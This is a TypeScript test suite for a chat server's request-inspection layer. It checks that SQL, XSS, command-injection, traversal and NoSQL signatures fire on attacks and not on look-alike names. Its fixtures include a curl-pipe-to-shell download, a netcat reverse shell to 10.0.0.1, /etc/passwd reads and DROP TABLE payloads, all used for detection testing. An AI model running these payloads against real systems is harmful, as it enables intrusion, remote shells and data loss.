// The signatures and the field walk: each family fires on its attacks and not on look-alikes real people
// type; content fields score as content; secrets are never read; pathological inputs cost bounded work.
import { describe, expect, it } from 'vitest';
import { inspectBody, inspectFrame, inspectRequestHead } from '../../src/security/inspect.js';
import {
  isProbePath,
  isScannerAgent,
  matchSignatures,
  normalise,
  SCAN_PREFIX,
} from '../../src/security/signatures.js';

describe('signatures', () => {
  const cases: [string, string[], string[]][] = [
    [
      'sqli',
      [
        "' OR '1'='1",
        "admin'--",
        '1 UNION ALL SELECT null,version()',
        "1'; DROP TABLE users--",
        '1 AND SLEEP(5)',
        "'; WAITFOR DELAY '0:0:5'--",
        '%27%20OR%201%3D1--',
      ],
      ["O'Brien", 'select-committee', 'union-negotiations', 'Q3 report (final).pdf', 'Anne-Marie'],
    ],
    [
      'xss',
      [
        '<script>alert(1)</script>',
        '<img src=x onerror=alert(1)>',
        'javascript:alert(1)',
        '&lt;svg onload=alert(1)&gt;',
        '<iframe src=//evil>',
      ],
      ['R&D <3', 'x < y', 'script-writers', 'Smith & Sons', 'a>b'],
    ],
    [
      'cmdi',
      [
        '; cat /etc/passwd',
        '| id',
        '$(whoami)',
        '`uname -a`',
        '&& curl http://x/sh | sh',
        '; nc -e /bin/sh 10.0.0.1 4444',
      ],
      ['R&D', 'notes & todos.md', 'Tom & Jerry', 'cat-pictures', 'cmd-line-tips'],
    ],
    [
      'traversal',
      [
        '../../etc/passwd',
        '..\\..\\windows\\win.ini',
        '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
        'file:///etc/shadow',
        '....//....//etc/passwd',
        'a%00.png',
      ],
      ['team.backend', 'v1.2..3', 'etc', 'résumé_anna.docx', 'passwd-reset-requests'],
    ],
    [
      'nosql',
      [
        '{"$where": "sleep(100)"}',
        '$ne',
        "'; return true; var x='",
        'email[$ne]=1',
        'this.password.match(/.*/)',
      ],
      ['US$ 100', 'price: 5$', 'dollars', 'team$'],
    ],
  ];

  for (const [family, attacks, lookalikes] of cases) {
    it(`${family}: fires on attacks, not on look-alikes`, () => {
      for (const attack of attacks) expect(matchSignatures(attack), attack).toContain(family);
      for (const value of lookalikes) expect(matchSignatures(value), value).not.toContain(family);
    });
  }

  it('knows scanners by their agent and probes by their path, not browsers or our own routes', () => {
    expect(isScannerAgent('sqlmap/1.7.2#stable (https://sqlmap.org)')).toBe(true);
    expect(isScannerAgent('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)')).toBe(true);
    expect(
      isScannerAgent('Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36'),
    ).toBe(false);
    expect(isScannerAgent('python-requests/2.31.0')).toBe(false);
    for (const path of [
      '/.env',
      '/.git/config',
      '/wp-admin/',
      '/phpmyadmin/index.php',
      '/actuator/env',
      '/x.php',
    ])
      expect(isProbePath(path), path).toBe(true);
    for (const path of ['/api/v2/channels', '/api/v2/files/abc', '/api/v2/docs/json', '/api/v2/users/me'])
      expect(isProbePath(path), path).toBe(false);
  });

  it('undoes the encodings attackers hide behind', () => {
    expect(normalise('%253Cscript%253E')).toBe('<script>');
    expect(normalise('&#x3c;img&#62;')).toBe('<img>');
    expect(normalise('UN/**/ION SEL/**/ECT')).toBe('UN ION SEL ECT');
  });
});

describe('where a value sits', () => {
  it('an attack in a structural field is an injection; the same text in content is chat', () => {
    const ids = (rules: { id: string }[]) => rules.map((rule) => rule.id);
    expect(ids(inspectBody({ name: "x' OR 1=1--" }))).toContain('injection.sql');
    expect(ids(inspectBody({ content: "x' OR 1=1--" }))).toEqual(['content.sql']);
    expect(ids(inspectFrame({ type: 'chat_message', channel_id: '../../etc', content: 'hi' }))).toEqual([
      'traversal.path',
    ]);
    expect(
      ids(
        inspectRequestHead({
          path: '/api/v2/search/messages',
          query: { q: 'drop table users;' },
          headers: {},
          notFound: false,
        }),
      ),
    ).not.toContain('injection.sql');
  });

  it('operator objects and operator keys are NoSQL injection wherever they are', () => {
    const ids = (rules: { id: string }[]) => rules.map((rule) => rule.id);
    expect(ids(inspectBody({ email: { $ne: null }, password: 'x' }))).toContain('injection.nosql_operator');
    expect(ids(inspectBody({ members: [{ 'a.b': 1 }] }))).toContain('injection.nosql_operator');
    expect(
      ids(
        inspectRequestHead({
          path: '/api/v2/users',
          query: { 'email[$ne]': 'x' },
          headers: {},
          notFound: false,
        }),
      ),
    ).toContain('injection.nosql_operator');
    // Channel names contain dots: frame keys (resume's channel map) may too.
    expect(inspectFrame({ type: 'resume', channels: { 'team.backend': 4 } })).toEqual([]);
  });

  it('never reads passwords or tokens (they may be anything their owner chose)', () => {
    expect(inspectBody({ email: 'a@example.com', password: "'; DROP TABLE users; --" })).toEqual([]);
    expect(inspectBody({ refresh_token: '<script>' })).toEqual([]);
  });

  it('reads cookies and referers as values, not as shell syntax', () => {
    const headers = {
      cookie: 'theme=dark; id=5; type=compact',
      referer: 'https://chat.example.com/c/general?id=1&type=2',
      'user-agent': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 Safari/605.1.15',
    };
    expect(inspectRequestHead({ path: '/api/v2/channels', query: {}, headers, notFound: false })).toEqual([]);
  });
});

describe('cost', () => {
  // Inputs built to make backtracking patterns explode. Only SCAN_PREFIX characters of any value are
  // read, and every pattern is linear in them: a thousand such values take well under a second even on a
  // slow, busy machine (a catastrophic pattern would take minutes on one).
  const pathological = [
    "'".repeat(100_000),
    ' or '.repeat(25_000),
    '<'.repeat(100_000),
    '<a '.repeat(30_000),
    `<a ${'x'.repeat(100_000)}`,
    '../'.repeat(30_000),
    '$('.repeat(50_000),
    'select '.repeat(10_000),
    `union${' '.repeat(100_000)}`,
    '%25'.repeat(30_000),
    '&#x3c;'.repeat(20_000),
    '/*'.repeat(50_000),
    "a'".repeat(50_000),
    '`'.repeat(100_000),
    'on'.repeat(50_000) + '=',
  ];

  it('reads a bounded prefix and stays linear on pathological inputs', () => {
    expect(normalise('x'.repeat(1_000_000)).length).toBe(SCAN_PREFIX);
    const started = process.hrtime.bigint();
    for (let round = 0; round < 70; round++) for (const value of pathological) matchSignatures(value);
    const seconds = Number(process.hrtime.bigint() - started) / 1e9;
    expect(seconds).toBeLessThan(5);
  });
});
